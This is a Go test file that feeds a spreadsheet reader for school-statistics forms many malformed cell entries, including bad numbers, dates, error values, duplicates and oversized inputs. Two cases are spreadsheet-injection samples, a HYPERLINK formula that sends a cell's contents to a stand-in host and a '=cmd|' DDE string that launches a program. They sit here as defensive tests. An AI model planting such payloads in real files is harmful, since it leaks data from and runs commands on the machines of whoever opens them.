package workbook

import (
	"fmt"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"shuren/internal/edu"
	"shuren/internal/form"
)

// typed is a case of a text in one cell that a number is asked of.
func typed(zh, en string, v any, kind, rule string, check func(*testing.T, *Reading)) badCase {
	return badCase{zh: zh, en: en, edit: func(k *kit) { k.put(edu.Junior, "boarders", v) }, kind: kind, rule: rule, check: check}
}

// formula puts a formula with a value, as spreadsheets save it, into a cell.
func (k *kit) formula(cell, formula string, value any) {
	set(k, k.file, mainSheet, cell, value)
	k.ok(k.file.SetCellFormula(mainSheet, cell, formula))
}

func styled(format string) func(k *kit, cell string, v any) {
	return func(k *kit, cell string, v any) {
		n, err := k.file.NewStyle(&excelize.Style{CustomNumFmt: &format})
		k.ok(err)
		set(k, k.file, mainSheet, cell, v)
		k.ok(k.file.SetCellStyle(mainSheet, cell, cell, n))
	}
}

// What people write into cells.
var badCells = []badCase{
	{zh: "填了公式（有计算结果）", en: "a formula with its value", edit: func(k *kit) { k.formula(k.at(edu.Junior, "boarders"), "40+37", 77) }, kind: isRead, check: wantCell("junior/boarders", "77")},
	{zh: "填了公式（没有计算结果）", en: "a formula without a value", edit: func(k *kit) {
		cell := k.at(edu.Junior, "boarders")
		set(k, k.file, mainSheet, cell, nil)
		k.ok(k.file.SetCellFormula(mainSheet, cell, "SUM(A1:A3)"))
	}, kind: isRefused, rule: RuleFormula},
	{zh: "公式引用别的文件（有结果）", en: "a formula that points to another file, with its value", edit: func(k *kit) { k.formula(k.at(edu.Junior, "boarders"), "'[汇总.xlsx]Sheet1'!$B$2", 77) }, kind: isRead, check: wantCell("junior/boarders", "77")},
	{zh: "恶意公式", en: "a hostile formula", edit: func(k *kit) {
		k.formula(k.at(edu.Primary, "motto"), `HYPERLINK("http://example.invalid/?"&A1,1)`, 1)
	}, kind: isRead, check: wantCell("primary/motto", "1")},
	{zh: "以等号开头的文字", en: "a text that looks like a formula", edit: func(k *kit) { k.put(edu.Primary, "motto", "=cmd|'/c calc'!A0") }, kind: isRefused, rule: RuleFormula},
	typed("错误值 #DIV/0!", "an error value", "#DIV/0!", isRefused, RuleError, nil),
	{zh: "名册里有 #REF!", en: "an error value in the class list", edit: func(k *kit) { k.class("class_pupils", k.row(), "#REF!") }, kind: isRefused, rule: RuleError},
	typed("数字写成文字", "a number as text", "77", isRead, "", wantCell("junior/boarders", "77")),
	typed("全角数字", "full-width digits", "７７", isRead, "", func(t *testing.T, r *Reading) { wantNoType(t, r) }),
	typed("带千分位", "thousands set off", "1,077", isRead, "", func(t *testing.T, r *Reading) { wantNoType(t, r) }),
	typed("带单位", "a number with its unit", "77人", isMend, form.RuleType, nil),
	typed("中文数字", "a number in words", "七十七", isMend, form.RuleType, nil),
	typed("写了“无”", "a word for none", "无", isMend, form.RuleType, nil),
	typed("写了“约80”", "about eighty", "约80", isMend, form.RuleType, nil),
	typed("负数", "a negative number", -5, isMend, form.RuleRange, nil),
	typed("人数写了小数", "a fraction of a pupil", 77.5, isMend, form.RuleRange, nil),
	typed("“/”填在必答处", "a slash where the question always arises", "/", isMend, form.RuleType, nil),
	{zh: "数字格显示成日期", en: "a number shown as a date", edit: func(k *kit) { styled("yyyy-mm-dd")(k, k.at(edu.Junior, "boarders"), 45000) }, kind: isMend, rule: form.RuleType},
	{zh: "数字格显示成百分比", en: "a number shown as a percentage", edit: func(k *kit) { styled("0%")(k, k.at(edu.Junior, "boarders"), 0.45) }, kind: isMend, rule: form.RuleType},
	{zh: "年份超出范围", en: "a year out of range", edit: func(k *kit) { k.put(edu.Primary, "built_year", 1066) }, kind: isMend, rule: form.RuleRange},
	{zh: "选项不在列表中", en: "neither yes nor no", edit: func(k *kit) { k.put(edu.Primary, "crowded_center", "可能") }, kind: isMend, rule: form.RuleType},
	{zh: "必填的没填", en: "a required cell is empty", edit: func(*kit) {}, kind: isMend, rule: form.RuleRequired},
	{zh: "清空了预填的数", en: "a figure that was known was emptied", edit: func(k *kit) { k.put(edu.Primary, "teachers_old", nil) }, kind: isRead, check: wantCell("primary/teachers_old", "")},
	{zh: "填在不用填的格里", en: "a figure in a cell that is not asked", edit: func(k *kit) {
		cell := k.at(edu.Primary, "pupils.g7")
		set(k, k.file, mainSheet, cell, 40)
	}, kind: isRefused, rule: RuleFixed},
	{zh: "改了自动汇总的格", en: "a computed cell was changed", edit: func(k *kit) { k.put(edu.Primary, "pupils.g1", 999) }, kind: isNote, rule: RuleFixed},
	{zh: "分项没填，合计格里填了0", en: "a 0 in a computed cell while its parts are empty", edit: func(k *kit) { k.put(edu.Junior, "teachers", 0) }, kind: isRead, check: wantCell("junior/teachers", "0")},
	{zh: "改了已锁定的格", en: "a locked cell was changed", edit: func(k *kit) { k.put(edu.Primary, "school_kind", "九年一贯制学校") }, kind: isNote, rule: RuleFixed},
	{zh: "繁体字、带括号拼音的文字", en: "traditional characters and bracketed pinyin", edit: func(k *kit) { k.put(edu.Primary, "motto", "樹(shù)人（rén）之意") }, kind: isRead, check: wantWritten("primary/motto", "树人之意", "樹(shù)人（rén）之意")},
	{zh: "真括号不动", en: "a bracket that is no pinyin", edit: func(k *kit) { k.put(edu.Primary, "motto", "实验小学（东校区）") }, kind: isRead, check: wantCell("primary/motto", "实验小学（东校区）")},
	{zh: "把整篇材料贴进一格", en: "a whole document in one cell", edit: func(k *kit) { k.put(edu.Primary, "motto", strings.Repeat("材料", 1500)) }, kind: isRefused, rule: RuleLong},
	{zh: "名册里全是错误值", en: "a class list full of error values", edit: func(k *kit) {
		c, r := k.column(classesSheet, keyColumn, "class_pupils"), k.row()
		for i := range 300 {
			set(k, k.file, classesSheet, at(c, r+i), "#N/A")
		}
	}, kind: isRefused, rule: RuleError, check: func(t *testing.T, r *Reading) {
		if len(r.Problems) > maxEach+10 {
			t.Errorf("%d problems are listed", len(r.Problems))
		}
	}},
	{zh: "名册里年级写错", en: "a grade that does not exist", edit: func(k *kit) { k.class("grade", k.row(), "十三年级") }, kind: isMend, rule: form.RuleType},
	{zh: "名册里年级与学段不符", en: "a grade of another section", edit: func(k *kit) { k.class("grade", k.row(), "八年级") }, kind: isMend, rule: form.RuleRow},
	{zh: "名册里没写人数", en: "a class without its pupils", edit: func(k *kit) { k.class("class_pupils", k.row(), nil) }, list: true, kind: isMend, rule: form.RuleRequired},
	{zh: "名册里一个班写了两次", en: "a class that comes twice", edit: func(k *kit) {
		r := k.row() + 20
		k.class(columnPart, r, "小学段")
		k.class("grade", r, "一年级")
		k.class("class_no", r, "（1）班")
		k.class("class_pupils", r, 40)
	}, kind: isMend, rule: form.RuleDuplicate},
	{zh: "名册里人数显示成日期", en: "pupils shown as a date", edit: func(k *kit) {
		cell := at(k.column(classesSheet, keyColumn, "class_pupils"), k.row())
		format := "yyyy-mm-dd"
		n, err := k.file.NewStyle(&excelize.Style{CustomNumFmt: &format})
		k.ok(err)
		set(k, k.file, classesSheet, cell, 45000)
		k.ok(k.file.SetCellStyle(classesSheet, cell, cell, n))
	}, kind: isMend, rule: form.RuleType},
	{zh: "名册里学段写成别的叫法", en: "the section by another name", edit: func(k *kit) { k.class(columnPart, k.row(), "小学") }, kind: isRead, check: func(t *testing.T, r *Reading) {
		if got := r.Units[0].Content.Lists["classes"][0].Part; got != edu.Primary {
			t.Errorf("the section is %q", got)
		}
	}},
	{zh: "多校名册里单位写错", en: "a class of an unknown school", many: true, edit: func(k *kit) { k.class(columnUnit, k.row(), "不存在的学校") }, kind: isRefused, rule: RuleUnit},
	{zh: "多校名册里单位没写", en: "a new class without its school", many: true, edit: func(k *kit) {
		r := k.row() + 60
		k.class("grade", r, "一年级")
		k.class("class_no", r, "（9）班")
		k.class("class_pupils", r, 40)
	}, kind: isRefused, rule: RuleUnit},
	{zh: "多校名册里单位写成繁体", en: "the school's name in traditional characters", many: true, edit: func(k *kit) { k.class(columnUnit, k.row(), "霽川縣第1學校") }, kind: isRead, check: wantWritten("class_no", "（1）班", "霽川縣第1學校")},
	{zh: "多校名册里单位写成代码", en: "the school's code for its name", many: true, edit: func(k *kit) { k.class(columnUnit, k.row(), "530000000001") }, kind: isRead, check: wantClass("class_no", "（1）班")},
	{zh: "名册里粘贴了十万行", en: "100,000 rows were pasted into the class list", bytes: func(k *kit, b []byte) []byte { return k.manyRows(b, 100_000) }, plain: true, kind: isRefused, rule: RuleRows},
	{zh: "远处误填了一格", en: "a stray cell far to the right", edit: func(k *kit) { set(k, k.file, mainSheet, "CZ300", "误填") }, kind: isRead},
	{zh: "最右边一列有内容", en: "a cell in the last possible column", edit: func(k *kit) { set(k, k.file, mainSheet, "XFD3", "x") }, kind: isRefused, rule: RuleFile},
}

func wantNoType(t *testing.T, r *Reading) {
	for _, u := range r.Units {
		for _, p := range u.Problems {
			if p.Rule == form.RuleType {
				t.Errorf("%s", p.Text.EN)
			}
		}
	}
}

// manyRows pastes rows into the class list, in the file itself: the library
// takes long over so many.
func (k *kit) manyRows(b []byte, n int) []byte {
	return with("xl/worksheets/sheet2.xml", func(s string) string {
		i := strings.Index(s, "</sheetData>")
		if i < 0 {
			k.Fatal("no rows")
		}
		var rows strings.Builder
		for r := range n {
			fmt.Fprintf(&rows, `<row r="%d"><c r="C%d" t="inlineStr"><is><t>一年级</t></is></c><c r="D%d" t="inlineStr"><is><t>（%d）班</t></is></c><c r="E%d"><v>40</v></c></row>`, r+1000, r+1000, r+1000, r, r+1000)
		}
		return s[:i] + rows.String() + s[i:]
	})(k, b)
}
